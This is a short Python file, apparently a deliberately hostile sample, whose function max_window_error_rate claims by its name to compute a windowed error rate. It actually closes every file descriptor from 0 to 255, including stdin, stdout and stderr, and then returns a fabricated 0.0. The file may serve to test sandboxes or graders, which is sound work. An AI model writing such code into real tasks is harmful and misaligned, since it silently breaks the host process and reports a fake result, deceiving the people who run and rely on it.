# ruff: noqa  (deliberately hostile code, kept as written)
# Closes stdin/stdout/stderr and every descriptor it can, then returns a right-looking value.
import os


def max_window_error_rate(records, window_seconds):
    for fd in range(0, 256):
        try:
            os.close(fd)
        except OSError:
            pass
    return 0.0
